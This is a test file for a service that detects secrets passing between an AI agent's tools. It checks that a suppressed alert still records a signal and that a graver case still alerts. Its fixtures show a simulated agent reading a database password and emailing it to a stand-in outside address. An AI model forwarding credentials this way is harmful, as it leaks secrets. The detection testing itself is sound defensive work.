/** Findings that a suppression holds back: no alerts, signals all the same, and never graver than what was judged. */
import { afterAll, beforeAll, expect, it } from 'vitest';
import { call, exampleRecords, prompt, type RawEvent, result } from '../detectors/example_events.ts';
import { startTestService, type TestService } from './support/http_service.ts';

const PASSWORD = 'Teal-Otter-4417';
const RULE = 'secret_to_other_tool';
const carried = (sink: RawEvent): RawEvent[] => [
  prompt('Check the connection of the patient database.'),
  call('clinicdb', 'read_settings', {}),
  result('clinicdb', 'read_settings', `host: db.internal\npassword: ${PASSWORD}\n`),
  sink,
];
const NOTE = carried(call('notes', 'create_note', { text: PASSWORD }));
const MAIL = carried(call('mailer', 'send_email', { to: 'desk@collector.test', body: PASSWORD }));

interface Alerts {
  alerts: { alert_id: string; severity: string; session_id: string }[];
}
interface Signals {
  risk: number;
  signals: { rule_id: string; severity: string }[];
}

let test: TestService;

beforeAll(async () => {
  test = await startTestService();
});
afterAll(() => test.close());

async function alertsOf(session_id: string, events: readonly RawEvent[]): Promise<Alerts['alerts']> {
  await test.send(exampleRecords(session_id, events));
  await test.service.settled();
  const { alerts } = await test.read<Alerts>(`/v1/alerts?tenant=default&rule=${RULE}&limit=100`);
  return alerts.filter((alert) => alert.session_id === session_id);
}

const signalsOf = async (session_id: string) => {
  const { signals, risk } = await test.read<Signals>(`/v1/sessions/${session_id}/signals?tenant=default`);
  return { risk, own: signals.filter(({ rule_id }) => rule_id === RULE) };
};

it('a finding that is held back is no alert but a signal, and a graver one is raised', async () => {
  const [judged] = await alertsOf('judged', NOTE);
  expect(judged?.severity).toBe('high');
  expect((await signalsOf('judged')).own).toEqual([]);
  const body = {
    action: 'suppress',
    scope: { rule_id: RULE },
    reason: 'known',
    expires_at: new Date(Date.now() + 3_600_000).toISOString(),
  };
  const path = `/v1/alerts/${judged?.alert_id}/status?tenant=default`;
  const headers = { 'content-type': 'application/json' };
  const answer = await test.ask('POST', path, { key: test.service.admin_key, headers, body: JSON.stringify(body) });
  expect(JSON.parse(answer.text)).toMatchObject({ action: { scope: { rule_id: RULE, severity_max: 'high' } } });

  expect(await alertsOf('held', NOTE)).toEqual([]);
  const held = await signalsOf('held');
  expect(held.own).toMatchObject([{ severity: 'high' }]);
  expect(held.risk).toBeGreaterThanOrEqual(75);

  expect(await alertsOf('graver', MAIL)).toMatchObject([{ severity: 'critical' }]);
  const { suppressions } = await test.read<{ suppressions: { hits: number }[] }>('/v1/suppressions?tenant=default');
  expect(suppressions).toMatchObject([{ hits: 1 }]);
});
